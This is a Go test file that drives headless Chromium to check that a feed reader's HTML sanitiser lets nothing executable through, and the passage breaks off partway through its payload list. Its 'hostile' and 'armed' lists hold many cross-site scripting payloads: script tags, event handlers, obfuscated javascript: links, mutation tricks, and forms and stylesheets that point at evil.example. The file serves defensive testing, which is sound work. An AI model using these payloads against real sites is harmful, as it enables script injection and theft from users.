package clean_test

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"tributary/feed"
	"tributary/ingest/clean"
	"tributary/ingest/parse"
)

// trap is a browser in which nothing is forbidden and everything is noticed:
// what scripts would call trips a canary, the content security policy reports
// and does not block, and every host on the web is a server of the test's own,
// which notes whatever is asked for beside pictures, sound and film.
type trap struct {
	t    *testing.T
	tab  context.Context
	home string // the server's address

	mu      sync.Mutex
	pages   map[string]string
	tripped []string
	moved   chan struct{}
}

// reportOnly forbids all that clean content has no use for, without stopping it.
const reportOnly = "default-src 'none'; img-src http: https:; media-src http: https:; base-uri 'none'; form-action 'none'; report-uri /report"

// canaries is run first in every window, frames included. It stands in the
// way of everything that a script would do to show that it runs.
const canaries = `(() => {
	const trip = (...what) => tripped(what.join(" ").slice(0, 300));
	for (const name of ["alert", "confirm", "prompt", "print", "open", "fetch", "eval", "executeMe", "WebSocket", "EventSource", "Worker", "BroadcastChannel"])
		window[name] = function (...args) { trip("called", name, ...args) };
	for (const [of, name] of [[Document, "write"], [Document, "writeln"], [XMLHttpRequest, "open"], [Navigator, "sendBeacon"]])
		of.prototype[name] = (...args) => trip("called", name, ...args);
	document.addEventListener("securitypolicyviolation", e => trip("policy", e.effectiveDirective, e.blockedURI, e.sample));
})()`

func newTrap(t *testing.T) *trap {
	t.Helper()
	program := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if found, err := exec.LookPath(name); err == nil {
			program = found
			break
		}
	}
	if program == "" {
		t.Skip("no Chromium here: apt-get install chromium")
	}
	tr := &trap{t: t, pages: map[string]string{}, moved: make(chan struct{}, 1)}
	plain, secure := httptest.NewServer(tr), httptest.NewTLSServer(tr)
	t.Cleanup(plain.Close)
	t.Cleanup(secure.Close)
	tr.home = plain.URL
	hosts := fmt.Sprintf("EXCLUDE 127.0.0.1, MAP *.googleapis.com ~NOTFOUND, MAP *.google.com ~NOTFOUND, MAP *:443 %s, MAP * %s", secure.Listener.Addr(), plain.Listener.Addr())
	options := append(slices.Clone(chromedp.DefaultExecAllocatorOptions[:]),
		chromedp.ExecPath(program), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("host-resolver-rules", hosts), chromedp.Flag("ignore-certificate-errors", true),
		chromedp.Flag("disable-site-isolation-trials", true), chromedp.Flag("disable-features", "Translate,IsolateOrigins,site-per-process")) // frames in one process, where the canaries are
	ctx, cancel := chromedp.NewExecAllocator(context.Background(), options...)
	t.Cleanup(cancel)
	tr.tab, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	tr.must(chromedp.Do(tr.tab))
	tr.tab, cancel = context.WithTimeout(tr.tab, 40*time.Second)
	t.Cleanup(cancel)
	tr.must(chromedp.Listen(tr.tab, func(event any) {
		if e, ok := event.(*runtime.EventBindingCalled); ok && e.Name == "tripped" {
			tr.trip(e.Payload)
		}
	}))
	tr.must(chromedp.Do(tr.tab, chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
		if _, err := cdp.Call(ctx, tab, runtime.AddBinding, runtime.AddBindingParams{Name: "tripped"}); err != nil {
			return err
		}
		_, err := cdp.Call(ctx, tab, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: canaries})
		return err
	})))
	return tr
}

func (tr *trap) must(err error) {
	tr.t.Helper()
	if err != nil {
		tr.t.Fatal(err)
	}
}

func (tr *trap) trip(what string) {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	tr.tripped = append(tr.tripped, what)
	select {
	case tr.moved <- struct{}{}:
	default:
	}
}

// take gives what has been noticed since the last time.
func (tr *trap) take() []string {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	list := tr.tripped
	tr.tripped = nil
	return list
}

// await waits, unless it was noticed already, for something with the sign.
func (tr *trap) await(sign string, noticed []string) []string {
	late := time.After(5 * time.Second)
	for !slices.ContainsFunc(noticed, func(s string) bool { return strings.Contains(s, sign) }) {
		select {
		case <-tr.moved:
			noticed = append(noticed, tr.take()...)
		case <-late:
			return noticed
		}
	}
	return noticed
}

// ServeHTTP is the web: the test's pages, and on all other addresses of all
// hosts something that runs if it is let.
func (tr *trap) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	tr.mu.Lock()
	doc, ours := tr.pages[r.URL.Path]
	tr.mu.Unlock()
	kind := wantedAs(r)
	switch {
	case ours && "http://"+r.Host == tr.home:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Security-Policy-Report-Only", reportOnly)
		_, _ = io.WriteString(w, doc)
		return
	case r.URL.Path == "/report":
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1000))
		tr.trip("reported " + string(body))
		return
	case kind == "image" || kind == "audio" || kind == "video":
		w.Header().Set("Content-Type", "image/gif")
		_, _ = io.WriteString(w, "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
		return
	}
	tr.trip("asked for a " + kind + " " + r.Method + " " + r.Host + r.URL.String())
	switch kind {
	case "script":
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, "alert('a script from "+r.Host+"')")
	case "style":
		w.Header().Set("Content-Type", "text/css")
		_, _ = io.WriteString(w, "p { background: url(/from-css) }")
	default:
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<script>alert('a page from "+r.Host+"')</script>")
	}
}

// wantedAs is what a request wants its answer for: as it says (Fetch Metadata),
// or, where it is sent to plain http and does not say, as its other fields tell.
func wantedAs(r *http.Request) string {
	accept := r.Header.Get("Accept")
	switch said := r.Header.Get("Sec-Fetch-Dest"); {
	case said != "":
		return said
	case strings.Contains(accept, "text/html"):
		return "document"
	case strings.HasPrefix(accept, "image/"):
		return "image"
	case strings.HasPrefix(accept, "text/css"):
		return "style"
	case r.Header.Get("Range") != "":
		return "video"
	}
	return "script"
}

// inspect looks over a page that has loaded. Its cases must stand where they
// were put, and have nothing in them but harmless elements, attributes and
// addresses, by lists of its own. What waits for an event or a click gets it.
// Then each is written out by the browser and read again: by innerHTML, inside
// elements and vocabularies with other rules of parsing and back, as XHTML,
// and all of them as a document of a frame.
const inspect = `(async expected => {
	const bad = [], xhtml = "http://www.w3.org/1999/xhtml", svg = "http://www.w3.org/2000/svg", math = "http://www.w3.org/1998/Math/MathML";
	const elements = new Set(("a abbr address article aside audio b bdi blockquote br caption cite code col colgroup dd del details dfn div dl dt em " +
		"figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li main mark nav ol p picture pre q rp rt ruby s samp section " +
		"small source span strong sub summary sup table tbody td tfoot th thead time tr u ul var video wbr").split(" "));
	const attributes = new Set(("href src srcset sizes alt title width height class lang dir datetime colspan rowspan scope span start value type " +
		"open media poster cite").split(" "));
	const addresses = { href: 1, src: 1, poster: 1, cite: 1, srcset: 1, action: 1, formaction: 1, data: 1, "xlink:href": 1 };
	const say = (where, what, e) => bad.push(where + ": " + what + ": " + (e.outerHTML ?? e).slice(0, 300));
	const judge = (root, where, except) => {
		for (const e of root.querySelectorAll("*")) {
			if (e.localName.toLowerCase() === except?.toLowerCase()) continue;
			if (!elements.has(e.localName) || !except && e.namespaceURI !== xhtml) say(where, "element", e);
			for (const a of e.attributes) {
				if (!attributes.has(a.name)) say(where, "attribute " + a.name, e);
				if (a.name.startsWith("on")) e.dispatchEvent(new Event(a.name.slice(2)));
				if (!addresses[a.name]) continue;
				for (const one of a.name === "srcset" ? a.value.split(", ") : [a.value])
					if (!/^(https?:\/\/[^\/\s]|mailto:|tel:)/.test(one) || a.name !== "href" && !one.startsWith("http")) say(where, "address " + one, e);
			}
			if (e.localName === "a" && e.protocol === "javascript:") e.click();
		}
	};
	const settled = doc => Promise.all([...doc.images].map(i => i.complete ||
		new Promise(done => { i.addEventListener("load", done); i.addEventListener("error", done) })));
	const standing = (doc, where) => {
		const cases = [...doc.body.children];
		if (cases.length !== expected) say(where, "broke out, " + cases.length + " cases", doc.body);
		cases.forEach((c, i) => {
			if (c.id !== "c" + i || c.lastElementChild?.outerHTML !== "<address>end</address>") say(where, "broke out of c" + i, c);
			judge(c, where + " c" + i);
		});
		return cases;
	};
	const inert = document.implementation.createHTMLDocument("");
	const hosts = ["div", "p", "td", "table", "li", "a", "form", "button", "select", "template", "noscript", "textarea", "style"].map(name => inert.createElement(name))
		.concat([[svg, "svg"], [svg, "foreignObject"], [math, "math"], [math, "mtext"], [math, "annotation-xml"]].map(name => inert.createElementNS(...name)));
	const again = inert.createElement("div");
	const cases = standing(document, "loaded"), whole = document.body.innerHTML, parts = cases.map(c => c.innerHTML);
	for (const [i, part] of parts.entries()) {
		const seen = new Set();
		const reread = (html, where, except) => {
			if (seen.has(html)) return;
			seen.add(again.innerHTML = html);
			judge(again, where, except);
		};
		for (const host of hosts) {
			const where = "inside " + host.nodeName + " c" + i;
			host.innerHTML = part;
			judge(host.content ?? host, where, host.localName);
			reread(host.innerHTML, where + " and back", host.localName);
			reread(host.outerHTML, where + " and out", host.localName);
		}
		const xml = new DOMParser().parseFromString(new XMLSerializer().serializeToString(cases[i]), "application/xhtml+xml");
		if (xml.querySelector("parsererror")) say("as XHTML", "error", cases[i]);
		else judge(xml.documentElement, "as XHTML c" + i);
		const live = document.createElement("div");
		document.body.append(live);
		live.innerHTML = part;
		if (live.innerHTML !== part) say("inserted", "mutated c" + i, live);
		judge(live, "inserted c" + i);
	}
	await settled(document);
	const frame = document.createElement("iframe");
	const loaded = new Promise(done => frame.onload = done);
	frame.srcdoc = "<!DOCTYPE html><body>" + whole;
	document.body.append(frame);
	await loaded;
	standing(frame.contentDocument, "in a frame");
	if (frame.contentDocument.body.innerHTML !== whole) say("in a frame", "mutated", frame.contentDocument.body);
	await settled(frame.contentDocument);
	await new Promise(done => setTimeout(done));
	return bad;
})`

// load shows the cases on one page, and gives what was noticed.
func (tr *trap) load(cases ...string) []string {
	var b strings.Builder
	b.WriteString("<!DOCTYPE html><title>cases</title><body>")
	for i, c := range cases {
		fmt.Fprintf(&b, `<section id="c%d">%s<address>end</address></section>`, i, c)
	}
	tr.mu.Lock()
	path := fmt.Sprintf("/page/%d", len(tr.pages)+1)
	tr.pages[path] = b.String()
	tr.mu.Unlock()
	bad, err := chromedp.Run(tr.tab, func(ctx context.Context, tab *chromedp.Target) ([]string, error) {
		if _, err := chromedp.Navigate(tr.home+path)(ctx, tab); err != nil {
			return nil, err
		}
		return chromedp.Evaluate[[]string](fmt.Sprintf("%s(%d)", inspect, len(cases)), chromedp.EvalAwaitPromise)(ctx, tab)
	})
	if err != nil { // the page went away
		bad = append(bad, err.Error())
	}
	return append(tr.take(), bad...)
}

// lastPage is the address of the page that was loaded last.
func (tr *trap) lastPage() string {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return fmt.Sprintf("%s/page/%d", tr.home, len(tr.pages))
}

// none holds that the cases do nothing. Where many do something, it finds out
// which.
func (tr *trap) none(cases []sample) {
	tr.t.Helper()
	shown := make([]string, len(cases))
	for i, c := range cases {
		shown[i] = c.shown
	}
	noticed := tr.load(shown...)
	switch {
	case len(noticed) == 0:
	case len(cases) == 1:
		tr.t.Errorf("%s\nis shown as %s\nand: %s", cases[0].name, cases[0].shown, strings.Join(noticed[:min(5, len(noticed))], "\nand: "))
	default:
		half := len(cases) / 2
		tr.none(cases[:half])
		tr.none(cases[half:])
		if !tr.t.Failed() {
			tr.t.Errorf("%d cases together: %s", len(cases), strings.Join(noticed, "\n"))
		}
	}
}

// sample is a document and what a page makes of our output for it.
type sample struct{ name, shown string }

// output gives, for each entry of a document, what somebody shows who trusts
// our JSON Feed: content as HTML, text as text, addresses as addresses. Where
// there is no entry, one that names the feed as its source.
func (tr *trap) output(name string, doc feed.Document) []sample {
	tr.t.Helper()
	parsed, err := parse.Parse(doc, parse.Limits{})
	if err != nil {
		tr.t.Errorf("%s: %v", name, err)
		return nil
	}
	if len(parsed.Entries) == 0 {
		parsed.Entries = []feed.RawEntry{{Title: feed.Text{Value: "The feed itself"}}}
	}
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	about := clean.Context{DocumentURL: doc.URL, SiteURL: parsed.Channel.Link, Base: parsed.Base, Now: now, Date: parse.Date}
	p := feed.Page{Self: tr.home + "/feed.json"}
	for i, raw := range parsed.Entries {
		p.Items = append(p.Items, feed.Item{ID: fmt.Sprintf("00000000-0000-4000-8000-%012d", i), Place: int64(i + 1), Published: now, Updated: now,
			Entry: clean.Entry(raw, about), Source: feed.Source{Kind: feed.KindFeed, URL: doc.URL, About: parsed.Channel}})
	}
	out, err := feed.Site{ID: "00000000-0000-4000-8000-000000000000", Title: "Test", BaseURL: tr.home, Budget: 1 << 30}.JSON(p)
	tr.must(err)
	var read struct{ Items []published }
	tr.must(json.Unmarshal(out, &read))
	samples := make([]sample, len(read.Items))
	for i, item := range read.Items {
		samples[i] = sample{fmt.Sprintf("%s, entry %d", name, i), item.show()}
	}
	return samples
}

// published is an item of a JSON Feed.
type published struct {
	URL, Title, Summary, Image, Language string
	Content                              string `json:"content_html"`
	Authors                              []struct{ Name, URL string }
	Tags                                 []string
	Attachments                          []struct{ URL, Title string }
	Provenance                           struct {
		Source struct {
			Title string
			Feed  string `json:"feed_url"`
			Home  string `json:"home_page_url"`
		}
	} `json:"_tributary"`
}

func (p published) show() string {
	var b strings.Builder
	link := func(address, text string) {
		if address != "" {
			fmt.Fprintf(&b, `<p><a href="%s">%s</a></p>`, html.EscapeString(address), html.EscapeString(text))
		}
	}
	fmt.Fprintf(&b, `<h2 title="%s" lang="%s">%s</h2><p>%s</p>`, html.EscapeString(p.Title), html.EscapeString(p.Language),
		html.EscapeString(p.Title), html.EscapeString(p.Summary+" "+strings.Join(p.Tags, ", ")))
	if p.Image != "" {
		fmt.Fprintf(&b, `<img src="%s" alt="">`, html.EscapeString(p.Image))
	}
	link(p.URL, p.Title)
	for _, a := range p.Authors {
		link(a.URL, a.Name)
	}
	for _, a := range p.Attachments {
		link(a.URL, a.Title)
	}
	link(p.Provenance.Source.Feed, p.Provenance.Source.Title)
	link(p.Provenance.Source.Home, p.Provenance.Source.Title)
	return b.String() + p.Content
}

// snippets puts each hostile snippet everywhere in a feed: as HTML, as text of
// which the feed does not say what it is, and as plain text, in titles, names
// and addresses too.
func (tr *trap) snippets() []sample {
	type object = map[string]any
	var items []object
	var rss strings.Builder
	rss.WriteString(`<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>T</title><link>/</link>`)
	for i, s := range hostile {
		id := fmt.Sprint(i)
		author := object{"name": s, "url": s}
		items = append(items, object{"id": "h" + id, "content_html": s, "title": s, "summary": s, "authors": []object{author}},
			object{"id": "t" + id, "content_text": s, "url": s, "image": s, "language": s, "tags": []string{s}, "attachments": []object{{"url": s, "mime_type": s, "title": s}}})
		x := xmlText(s)
		fmt.Fprintf(&rss, `<item xml:base="%[2]s"><guid>%[1]d</guid><title>%[2]s</title><link>%[2]s</link><description>%[2]s</description><comments>%[2]s</comments><dc:creator>%[2]s</dc:creator>`+
			`<category>%[2]s</category><enclosure url="%[2]s" type="%[2]s" length="1"/><source url="%[2]s">%[2]s</source></item>`, i, x)
	}
	body, err := json.Marshal(object{"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": items})
	tr.must(err)
	here := tr.home + "/feeds/snippets"
	out := tr.output("JSON", feed.Document{URL: here, MediaType: "application/feed+json", Body: body})
	out = append(out, tr.output("RSS", feed.Document{URL: here, MediaType: "application/rss+xml", Body: []byte(rss.String() + "</channel></rss>")})...)
	if len(out) != 3*len(hostile) {
		tr.t.Errorf("%d snippets in 3 forms became %d entries", len(hostile), len(out))
	}
	return out
}

// xmlText is a snippet in XML, which cannot say all that HTML can.
func xmlText(s string) string {
	s = strings.Map(func(r rune) rune {
		if r < ' ' && r != '\t' && r != '\n' {
			return -1
		}
		return r
	}, s)
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "\n", "&#10;", "\t", "&#9;").Replace(s)
}

// sanitizeDocuments are feedparser's tests of its sanitiser.
func sanitizeDocuments(t *testing.T) []string {
	t.Helper()
	files, err := filepath.Glob("../../../shared/corpora/feeds/feedparser/tests/wellformed/sanitize/*.xml")
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// perPage is how many cases a page has.
const perPage = 150

// TestNothingExecutableSurvives is the last judge of the cleaner: a browser in
// which whatever can run does, and is seen to.
func TestNothingExecutableSurvives(t *testing.T) {
	tr := newTrap(t)
	tr.provesItself()
	all := tr.snippets()
	files := sanitizeDocuments(t)
	if len(files) == 0 {
		t.Log("feedparser's documents are not here: our own snippets only")
	}
	for _, file := range files {
		body, err := os.ReadFile(file)
		tr.must(err)
		all = append(all, tr.output(filepath.Base(file), feed.Document{URL: tr.home + "/feeds/of/others", MediaType: "application/xml", Body: body})...)
	}
	entries := len(all)
	slices.SortStableFunc(all, func(a, b sample) int { return strings.Compare(a.shown, b.shown) })
	all = slices.CompactFunc(all, func(a, b sample) bool { return a.shown == b.shown })
	for part := range slices.Chunk(all, perPage) {
		tr.none(part)
	}
	// Reports and requests travel by themselves: one made on purpose is waited
	// for, so that those before it have arrived.
	for _, what := range tr.await("asked for a iframe GET last.example", tr.load(`<iframe src="https://last.example/"></iframe>`)) {
		if !strings.Contains(what, "last.example") && !strings.Contains(what, tr.lastPage()) {
			t.Error("late: ", what)
		}
	}
	t.Logf("%d entries of %d documents and %d snippets came out in %d ways", entries, len(files), len(hostile), len(all))
	if len(files) > 0 { // last: what runs there may be heard of after its page is gone
		tr.provesThem(filepath.Dir(files[0]))
	}
}

// armed are things that run, with the sign of it. None is cleaned. The second
// list has those that would spoil a page for others.
var (
	armed = []bait{
		{"a script", `<script>alert(1)</script>`, "called alert 1"},
		{"a policy", `<script>void 0</script>`, "policy script-src-elem inline"},
		{"a policy's report", `<script>void 0</script>`, `"effective-directive":"script-src-elem"`},
		{"a script from elsewhere", `<script src="https://evil.example/x.js"></script>`, "called alert a script from evil.example"},
		{"a script over plain http", `<script src="http://plain.example/x.js"></script>`, "asked for a script GET plain.example/x.js"},
		{"a handler that runs by itself", `<img src="data:," onerror="alert(2)">`, "called alert 2"},
		{"a handler that waits", `<p onmouseover="alert(3)">x</p>`, "called alert 3"},
		{"a drawing", `<svg onload="alert(4)"></svg>`, "called alert 4"},
		{"a link to click", `<a href="java&#10;script:alert(5)">x</a>`, "called alert 5"},
		{"a frame with its own text", `<iframe srcdoc="<script>alert(6)</script>"></iframe>`, "called alert 6"},
		{"a frame of script", `<iframe src="javascript:alert(7)"></iframe>`, "called alert 7"},
		{"a frame from elsewhere", `<iframe src="https://evil.example/page"></iframe>`, "asked for a iframe GET evil.example/page"},
		{"an object", `<object data="/thing"></object>`, "asked for a object"},
		{"an embedded page", `<embed src="/thing" type="text/html">`, "asked for a embed"},
		{"a stylesheet", `<link rel="stylesheet" href="http://evil.example/x.css">`, "asked for a style GET evil.example/x.css"},
		{"an import", `<style>@import "https://evil.example/more.css";</style>`, "asked for a style GET evil.example/more.css"},
		{"a style", `<p style="background: url(/spy)">x</p>`, "policy style-src-attr"},
		{"a request", `<script>fetch("/x")</script>`, "called fetch /x"},
		{"an older request", `<script>new XMLHttpRequest().open("GET", "/y")</script>`, "called open GET /y"},
		{"writing", `<script>document.write("x")</script>`, "called write x"},
		{"a preloaded script", `<link rel="preload" as="script" href="https://evil.example/p.js">`, "asked for a script GET evil.example/p.js"},
		{"what a title lets out", `<noscript><p title="</noscript><img src='data:,' onerror='alert(8)'>"></noscript>`, "called alert 8"},
		{"what a comment lets out", `<!--><img src="data:," onerror="alert(9)">-->`, "called alert 9"},
		{"what an old element lets out", `<xmp><p title="</xmp><img src='data:,' onerror='alert(10)'>"></p></xmp>`, "called alert 10"},
	}
	armedAlone = []bait{
		{"another base", `<base href="https://evil.example/">`, "policy base-uri"},
		{"a refresh", `<meta http-equiv="refresh" content="0; url=/elsewhere">`, "asked for a document GET"},
		{"a form", `<form action="https://evil.example/take" method="post" id="f"></form><script>f.submit()</script>`, "asked for a document POST evil.example/take"},
		{"a way out of the page's element", `</section><p>x</p>`, "loaded: broke out"},
		{"what swallows the rest", `<textarea>`, "loaded: broke out"},
		{"what goes on in the rest", `<b>x`, "loaded: broke out"},
		{"what runs when it is read again", `<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="alert(11)">`, "called alert 11"},
		{"what a second reading changes", "<pre>\n\nx</pre>", "inserted: mutated c0"},
	}
)

// bait is something that runs if it is let, and what is noticed then.
type bait struct{ name, html, sign string }

// provesItself shows that the trap closes on what is not cleaned.
func (tr *trap) provesItself() {
	tr.t.Helper()
	pages := [][]bait{armed}
	for _, alone := range armedAlone {
		pages = append(pages, []bait{alone})
	}
	for _, baits := range pages {
		cases := make([]string, len(baits))
		for i, b := range baits {
			cases[i] = b.html
		}
		noticed := tr.load(cases...)
		for _, b := range baits {
			noticed = tr.await(b.sign, noticed)
			if !slices.ContainsFunc(noticed, func(s string) bool { return strings.Contains(s, b.sign) }) {
				tr.t.Errorf("%s is not noticed; but: %q", b.name, noticed)
			}
		}
	}
}

// provesThem shows that feedparser's documents run where they are not cleaned.
func (tr *trap) provesThem(folder string) {
	tr.t.Helper()
	for _, name := range []string{"crazy", "iframe", "link", "onclick", "script_cdata"} {
		body, err := os.ReadFile(filepath.Join(folder, "entry_content_"+name+".xml"))
		tr.must(err)
		doc, err := parse.Parse(feed.Document{MediaType: "application/xml", Body: body}, parse.Limits{})
		tr.must(err)
		if noticed := tr.load(doc.Entries[0].Content.Value); !slices.ContainsFunc(noticed, func(s string) bool {
			return strings.HasPrefix(s, "policy ") || strings.HasPrefix(s, "called ") // it ran, or would have
		}) {
			tr.t.Errorf("%s does nothing uncleaned: %q", name, noticed)
		}
	}
}

// hostile are shapes of attack, each with something that would run, load or
// lead astray. What a browser of today does not fall for, another reader may.
var hostile = []string{
	// Plain scripts, and tags that are written oddly.
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/a.js></SCRIPT>`,
	"<script\n\t>alert(1)</script\n\t foo>",
	`<script/src="https://evil.example/a.js"/>x</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>script>alert(1)</script>`,
	`<script x="</script>">alert(1)</script>`,
	`<script>//<!--<script>` + "\n" + `alert(1)</script>`,
	`<script type="module">import "https://evil.example/m.js"</script>`,
	`<script>alert(1)`,
	"<script\x00>alert(1)</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
	`<ſcript>alert(1)</ſcript>`,
	`＜script＞alert(1)＜/script＞`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	// Handlers.
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror&#61;alert(1)>`,
	`<img/src='x'/onerror='alert(1)'>`,
	`<img src="x"onerror="alert(1)">`,
	"<img src=x\nonerror\n=\nalert(1)\n>",
	"<img src=x\x0conerror\x0c=\x0calert(1)>",
	"<img src=x on\x00error=alert(1)>",
	`<img src=x OnErRoR   =   "alert(1)">`,
	`<img title="a>b" src=x onerror=alert(1)>`,
	`<img alt='"' title='" onerror="alert(1)' src=x onerror=alert(2)>`,
	"<img alt=`a` title=`><img src=x onerror=alert(1)>`>",
	`<img src=x "onerror=alert(1)">`,
	`<img src=x =onerror=alert(1)>`,
	`<img src=x onerror=alert(1) onerror=alert(2) ` + strings.Repeat(`x=y `, 60) + `onload=alert(3)>`,
	`<p onclick=alert(1) onmouseover=alert(2) onfocus=alert(3) tabindex=0 autofocus>x</p>`,
	`<body onload=alert(1) onpageshow=alert(2)>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<audio src=x onerror=alert(1)></audio><video onloadstart=alert(1)><source src=x onerror=alert(2)></video>`,
	`<p style="animation: a 1s" onanimationstart=alert(1)>x</p><style>@keyframes a {}</style>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select><button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>`,
	`<picture><source srcset="x" onerror=alert(1)><img src=x onerror=alert(1)></picture>`,
	// Addresses.
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#1;&#31; JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\tscri\npt\r:alert(1)\">x</a>",
	`<a href="java&Tab;script&NewLine;&colon;alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	`<a href="&#0000106avascript:alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a><a href=\"java\x00script:alert(1)\">y</a>",
	`<a href="javascript&#58;//%0Aalert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a><a href="livescript:x">y</a><a href="view-source:javascript:1">z</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">y</a>`,
	`<a href="blob:https://e.example/x">x</a><a href="file:///etc/passwd">y</a><a href="filesystem:https://e.example/">z</a>`,
	`<a href="https://e.example/&quot; onclick=&quot;alert(1)">x</a>`,
	`<a href='https://e.example/" onmouseover="alert(1)'>x</a>`,
	`<a href="//evil.example\@e.example">x</a><a href="https:///evil.example">y</a><a href="/\evil.example">z</a>`,
	`<a href="https://e.example" target="_blank" ping="https://evil.example/ping" download rel="opener" attributionsrc="https://evil.example/a">x</a>`,
	`<img src="javascript:alert(1)" dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" longdesc="javascript:alert(1)" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>`,
	`<img srcset="javascript:alert(1) 1x, data:image/svg+xml,<svg/onload=alert(1)> 2x, x 3x">`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
	`<video poster="javascript:alert(1)" src="javascript:alert(1)"><track src="javascript:alert(1)" default></video>`,
	`<blockquote cite="javascript:alert(1)"><q cite="data:,x">x</q></blockquote><ins cite=" javascript:1">y</ins>`,
	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>`,
	`<a href="mailto:a@e.example?body=%0D%0A<script>">x</a><a href="tel:javascript:alert(1)">y</a>`,
	// Frames, objects, and what stands for them.
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
	`<iframe src="https://www.youtube.com/embed/abcdefghijk" onload=alert(1) srcdoc="<script>alert(1)</script>" title="</a><script>alert(1)</script>"></iframe>`,
	`<iframe src="https://www.youtube.com/embed/&quot;onclick=&quot;alert(1)"></iframe><iframe src="javascript:'https://www.youtube.com/embed/abcdefghijk'"></iframe>`,
	`<iframe><img src=x onerror=alert(1)></iframe><iframe title="</iframe><img src=x onerror=alert(1)>">`,
	`<object data="data:text/html,<script>alert(1)</script>"></object><object type="text/html" data="https://evil.example/o"><param name=src value="javascript:alert(1)"></object>`,
	`<embed src="https://evil.example/e.swf" allowscriptaccess="always"><embed code="x" type="text/html" src="javascript:alert(1)">`,
	`<applet code="Evil.class" archive="https://evil.example/e.jar"></applet>`,
	`<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
	`<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe><webview src="https://evil.example"></webview>`,
	// What takes over the page around it.
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<META HTTP-EQUIV="Refresh" CONTENT="0; URL=https://evil.example/">`,
	`<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">`,
	`<base href="https://evil.example/"><img src="pic.png"><a href="page">x</a>`,
	`<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/i"><link rel=prefetch href=//evil.example><link rel="manifest" href="/m">`,
	`<form action="https://evil.example/take"><input name=q autofocus><input type=submit></form><button form=x formaction="javascript:alert(1)">y</button>`,
	`<form id=x></form><button form=x formaction=//evil.example>Go</button><isindex action="javascript:alert(1)" type=image>`,
	`<dialog open><form method=dialog action="javascript:alert(1)">x</form></dialog>`,
	`<p id="location" name="document">x</p><form name="body"><input name="firstChild"></form><a id=x><a id=x name=y href="https://e.example">z</a>`,
	`<html manifest="https://evil.example/m"><head profile="x"><title><script>alert(1)</script></title></head><body background="javascript:alert(1)">x</body></html>`,
	`<p style="position:fixed;inset:0;background:url(https://evil.example/s)">x</p>`,
	`<p style="width:expression(alert(1));-moz-binding:url(https://evil.example/x.xml#a);behavior:url(x.htc)">x</p>`,
	`<p style="background:url('javascript:alert(1)');b\61ckground:\75rl(javascript:alert(1))" class="a b" slot=x is="y-z" part=p>x</p>`,
	`<style>@import "https://evil.example/x.css"; p{background:url(https://evil.example/p)}</style><p>x</p>`,
	`<style><!--</style><script>alert(1)</script>--></style>`,
